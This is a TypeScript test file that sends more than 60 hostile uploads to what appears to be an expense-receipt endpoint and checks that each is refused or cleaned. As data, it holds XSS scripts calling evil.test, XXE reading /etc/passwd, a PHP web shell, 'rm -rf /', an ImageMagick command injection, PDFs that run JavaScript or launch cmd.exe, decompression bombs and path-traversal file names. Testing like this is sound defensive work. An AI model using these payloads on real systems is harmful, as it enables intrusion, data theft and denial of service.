import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { RECEIPT_FILES } from '#contract/core/file-limits.ts';
import { createExpense, listExpensesOfCarer } from '#contract/visits/expenses.ts';
import { seedExpenseReasons } from '#server/features/organisations/catalogues/seed-catalogues.ts';
import { buildForm, pdf, picture } from '#test/kit/given-files.ts';
import { HEIC } from '#test/kit/heic.ts';
import { packedPdf } from '#test/kit/packed-pdf.ts';
import { startTestApp } from '#test/kit/start-test-app.ts';

/**
 * Files that somebody may send instead of a receipt. Each is refused with a sentence, or saved as a plain picture or
 * document.
 */

const { as, given, owner } = await startTestApp({ now: '2026-11-24T12:00:00Z' });
await seedExpenseReasons(owner);
const [reason] = await owner<{ id: string }[]>`select id from expense_reason where slug = 'taxi'`;
const carer = await given.carer();
const mine = as.user(carer);
const visit = await given.appointment({ carer, start_at: '2026-11-24T09:00:00Z', hours: 1 });
const FIELD = 'app_expenses_images_upload';

type Bytes = Uint8Array<ArrayBuffer>;
const text = (content: string): Bytes => new Uint8Array(Buffer.from(content));
const raw = (content: string): Bytes => new Uint8Array(Buffer.from(content, 'latin1'));
const join = (...parts: Uint8Array[]): Bytes => new Uint8Array(Buffer.concat(parts));

const jpeg = await picture();
const png = await picture({ format: 'png' });
const webp = await picture({ format: 'webp' });
const SCRIPT = '<script>fetch("//evil.test")</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const ZIP = raw(`PK\x03\x04\x14\x00\x00\x00\x08\x00${'\x00'.repeat(20)}bomb.txt`);

/** The header of a PNG without the pixels it declares. */
function pngHead(width: number, height: number): Bytes {
  const head = Buffer.alloc(25);
  head.write('IHDR');
  head.writeUInt32BE(width, 4);
  head.writeUInt32BE(height, 8);
  head.set([8, 2, 0, 0, 0], 12);
  const chunk = Buffer.alloc(8 + 13 + 4);
  chunk.writeUInt32BE(13);
  head.copy(chunk, 4, 0, 17);
  return join(raw('\x89PNG\r\n\x1a\n'), chunk);
}
/** A PNG of one colour: a file of a few kilobytes with any number of pixels. */
const bomb = async (side: number): Promise<Bytes> =>
  new Uint8Array(
    await sharp({
      create: { width: side, height: side, channels: 3, background: '#000' },
      limitInputPixels: false,
    })
      .png({ compressionLevel: 9 })
      .toBuffer(),
  );
const objectStream = (content: string, filter = '/FlateDecode'): string => {
  const packed = filter === '/FlateDecode' ? deflateSync(Buffer.from(content)).toString('latin1') : content;
  const named = filter && `/Filter ${filter}`;
  return `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${named} /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`;
};
const box = (brand: string) => raw(`\x00\x00\x00\x18ftyp${brand}\x00\x00\x00\x00mif1heic`);
const RUNS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const runsPacked = (before: string) => packedPdf({ catalogue: '/OpenAction 4 0 R', packed: RUNS, before });

const HOSTILE: [what: string, name: string, content: Bytes | Promise<Bytes>, expected: number | 'plain'][] = [
  ['nothing at all', 'r.jpg', text(''), 400],
  ['one byte', 'r.jpg', raw('\xff'), 415],
  ['plain text', 'r.jpg', text('hello'), 415],
  ['a page', 'r.jpg', text(HTML), 415],
  ['a page that says it is a PDF', 'r.pdf', text(HTML), 415],
  ['a drawing with a script', 'r.svg', text(SVG), 415],
  ['a drawing that says it is a PNG', 'r.png', text(`<?xml version="1.0"?>${SVG}`), 415],
  ['a packed drawing', 'r.svgz', new Uint8Array(gzipSync(SVG)), 415],
  [
    'XML that reads files',
    'r.png',
    text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    415,
  ],
  ['XML that grows', 'r.png', text('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'), 415],
  ['JavaScript', 'r.js', text('alert(1)'), 415],
  ['a shell script', 'r.jpg', text('#!/bin/sh\nrm -rf /'), 415],
  ['PHP', 'r.php.jpg', text('<?php system($_GET[0]);'), 415],
  ['a Windows program', 'r.jpg', raw(`MZ\x90\x00${'\x00'.repeat(60)}PE\x00\x00`), 415],
  ['a Linux program', 'r.png', raw(`\x7fELF\x02\x01\x01${'\x00'.repeat(60)}`), 415],
  ['a zip', 'r.zip', ZIP, 415],
  ['a zip that says it is a picture', 'r.jpg', ZIP, 415],
  ['a zip bomb', 'r.pdf', join(ZIP, new Uint8Array(deflateSync(Buffer.alloc(5_000_000)))), 415],
  ['a gzip bomb', 'r.png', new Uint8Array(gzipSync(Buffer.alloc(9_000_000))), 415],
  ['a 7z', 'r.jpg', raw(`7z\xbc\xaf\x27\x1c${'\x00'.repeat(30)}`), 415],
  ['a rar', 'r.jpg', raw(`Rar!\x1a\x07\x01\x00${'\x00'.repeat(30)}`), 415],
  ['a Word file of old', 'r.pdf', raw(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\x00'.repeat(600)}`), 415],
  ['rich text', 'r.rtf', text('{\\rtf1{\\object\\objemb}}'), 415],
  ['PostScript', 'r.pdf', text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'), 415],
  ['ImageMagick commands', 'r.png', text('push graphic-context\nfill "url(https://evil.test/|ls)"'), 415],
  ['a film', 'r.mp4', raw('\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom'), 415],
  ['the head of an iPhone’s picture and nothing else', 'r.heic', box('heic'), 400],
  ['the same as JPEG', 'r.jpg', box('heix'), 400],
  ['a picture of an iPhone cut short', 'r.heic', HEIC.slice(0, 500), 400],
  ['a picture of an iPhone with a zip behind it', 'r.heic', join(HEIC, ZIP), 'plain'],
  ['an AVIF', 'r.avif', picture({ format: 'avif' }), 415],
  ['a GIF', 'r.gif', picture({ format: 'gif' }), 415],
  ['a GIF that is JavaScript too', 'r.jpg', raw('GIF89a/*\x01\x00*/=1;alert(1)'), 415],
  ['a TIFF', 'r.tif', picture({ format: 'tiff' }), 415],
  ['a BMP', 'r.bmp', raw(`BM${'\x00'.repeat(60)}`), 415],
  ['an icon', 'r.ico', raw(`\x00\x00\x01\x00\x01\x00${'\x00'.repeat(40)}`), 415],
  ['a JPEG cut short', 'r.jpg', jpeg.slice(0, 120) as Bytes, 400],
  ['a PNG cut short', 'r.png', png.slice(0, 60) as Bytes, 400],
  ['a WebP cut short', 'r.webp', webp.slice(0, 30) as Bytes, 400],
  ['the head of a JPEG and nothing else', 'r.jpg', raw('\xff\xd8\xff\xe0'), 400],
  [
    'a JPEG of noise',
    'r.jpg',
    join(raw('\xff\xd8\xff\xe0\x00\x10JFIF\x00'), new Uint8Array(500).fill(65)),
    400,
  ],
  ['a PNG that claims a billion pixels', 'r.png', pngHead(50_000, 50_000), 400],
  ['a PNG of no pixels', 'r.png', pngHead(0, 0), 400],
  ['a bomb of 144 million pixels', 'r.png', bomb(12_000), 400],
  ['a picture with a page behind it', 'r.jpg', join(jpeg, text(HTML)), 'plain'],
  ['a picture with a zip behind it', 'r.png', join(png, ZIP), 'plain'],
  ['a picture with a program behind it', 'r.webp', join(webp, raw('MZ\x90\x00')), 'plain'],
  [
    'a picture with a script in its comment',
    'r.jpg',
    join(
      jpeg.slice(0, 2),
      raw(`\xff\xfe\x00${String.fromCharCode(SCRIPT.length + 2)}${SCRIPT}`),
      jpeg.slice(2),
    ),
    'plain',
  ],
  ['a picture with the place in it', 'r.jpg', picture({ has_place: true, orientation: 6 }), 'plain'],
  ['a picture under a name that climbs', '../../../etc/cron.d/r.jpg', jpeg, 'plain'],
  ['a picture under a name that reads backwards', 'r\u202egpj.exe', jpeg, 'plain'],
  ['a picture under a name of nothing', '...', png, 'plain'],
  ['a picture under a page’s name', 'r.html', webp, 'plain'],
  ['a PDF that runs at opening', 'r.pdf', pdf('', `/OpenAction ${RUNS}`), 400],
  [
    'a PDF that runs, spelt otherwise',
    'r.pdf',
    pdf('', '/OpenAction << /S /J#61va#53cript /J#53 (1) >>'),
    400,
  ],
  ['a PDF that runs, packed', 'r.pdf', runsPacked(''), 400],
  ['a PDF that runs, packed behind a note', 'r.pdf', runsPacked('/Note ( obj)'), 400],
  ['a PDF that runs, packed behind a comment', 'r.pdf', runsPacked('% obj\n'), 400],
  ['a PDF that runs, packed where nothing points at', 'r.pdf', pdf(objectStream(`1 0 ${RUNS}`)), 'plain'],
  ['the same, packed in another way', 'r.pdf', pdf(objectStream(RUNS, '/LZWDecode')), 'plain'],
  ['a PDF whose packing is a bomb', 'r.pdf', pdf(objectStream('a'.repeat(60_000_000))), 400],
  ['a PDF that starts programs', 'r.pdf', pdf('', '/OpenAction << /S /Launch /F (cmd.exe) >>'), 400],
  [
    'a PDF with a file in it',
    'r.pdf',
    pdf('8 0 obj\n<< /Type /Filespec /EF << /F 9 0 R >> >>\nendobj\n', '/Names << /EmbeddedFiles 8 0 R >>'),
    400,
  ],
  [
    'a PDF with a form that sends',
    'r.pdf',
    pdf('', '/AA << /WC << /S /SubmitForm /F (https://evil.test) >> >>'),
    400,
  ],
  ['a PDF with a form of the other kind', 'r.pdf', pdf('', '/AcroForm << /XFA 8 0 R >>'), 400],
  ['a PDF with a film', 'r.pdf', pdf('8 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'), 400],
  [
    'a PDF under a password',
    'r.pdf',
    raw(
      Buffer.from(pdf())
        .toString('latin1')
        .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P -4 >>'),
    ),
    400,
  ],
  ['a PDF cut short', 'r.pdf', pdf().slice(0, 100) as Bytes, 400],
  ['a PDF with a zip behind it', 'r.pdf', join(pdf(), ZIP), 400],
  ['a PDF behind something else', 'r.pdf', join(text(HTML), pdf()), 'plain'],
  ['a PDF far behind something else', 'r.pdf', join(text(HTML.repeat(20)), pdf()), 415],
  [
    'a PDF that hides its script in a stream of nothing',
    'r.pdf',
    pdf(`8 0 obj\n(stream\n) endobj 9 0 obj ${RUNS} endobj (endstream)\n`),
    'plain',
  ],
  [
    'the same, and it is asked for',
    'r.pdf',
    pdf(`8 0 obj\n(stream\n)\nendobj\n9 0 obj\n${RUNS}\nendobj\n(endstream)\n`, '/OpenAction 9 0 R'),
    400,
  ],
  ['a PDF that says it is a picture', 'r.jpg', pdf(), 'plain'],
];

const send = (name: string, content: Bytes) =>
  mine.call(createExpense, {
    body: buildForm(
      {
        appointment_carer_id: visit.appointment_carers[0]?.id ?? '',
        reason_id: reason?.id ?? '',
        amount: '1',
        date: '2026-11-24',
      },
      [{ field: FIELD, name, content }],
    ),
  });

describe('a file sent as a receipt', () => {
  it(`[DOC-03] is tried in ${HOSTILE.length} hostile variants`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  });

  it.each(HOSTILE)(
    '[DOC-03] %s is refused with a sentence, or made harmless',
    async (_what, name, made, expected) => {
      const content = await made;
      const { status, body, problem } = await send(name, content);
      if (expected !== 'plain') {
        expect([status, problem.errors?.[0]?.path]).toEqual([expected, FIELD]);
        expect(problem.detail).toMatch(/^(This|We|Pictures of) .{10,}\.$/s);
        return;
      }
      expect(status).toBe(201);
      const [file] = body.images;
      expect(file?.name).toMatch(/^[^./\\<>:"|?*\u202e]+\.(jpg|png|webp|pdf)$/);
      const kept = await mine.fetch(file?.url ?? '');
      const bytes = Buffer.from(await kept.arrayBuffer());
      expect(kept.headers.get('content-type')).toBe(file?.mime_type);
      const left_overs = ['<script>', 'PK\u0003\u0004', 'MZ\u0090', 'JavaScript', '/JS', 'ObjStm'];
      expect(left_overs.filter((each) => bytes.includes(each))).toEqual([]);
      if (file?.mime_type !== 'application/pdf') {
        const { exif, xmp, iptc, format } = await sharp(bytes).metadata();
        expect([exif, xmp, iptc, `image/${format}`]).toEqual([
          undefined,
          undefined,
          undefined,
          file?.mime_type,
        ]);
      }
    },
  );

  it('[DOC-03] that is too large gets the limit, and a wrong type from a phone gets advice', async () => {
    const large = new Uint8Array(RECEIPT_FILES.most_bytes + 1);
    large.set(jpeg);
    const refused = await send('large.jpg', large);
    expect([refused.status, refused.problem.detail]).toEqual([413, 'Choose a file of 10 MB or less.']);
    expect((await send('r.gif', await picture({ format: 'gif' }))).problem.detail).toContain(
      'HEIC picture, or a PDF',
    );
  });

  it('[DOC-03] is not saved if it is refused', async () => {
    const params = { id: visit.appointment_carers[0]?.id ?? '' };
    const kept = await mine.get(listExpensesOfCarer, { params });
    expect(kept).toHaveLength(HOSTILE.filter(([, , , expected]) => expected === 'plain').length);
  });
});
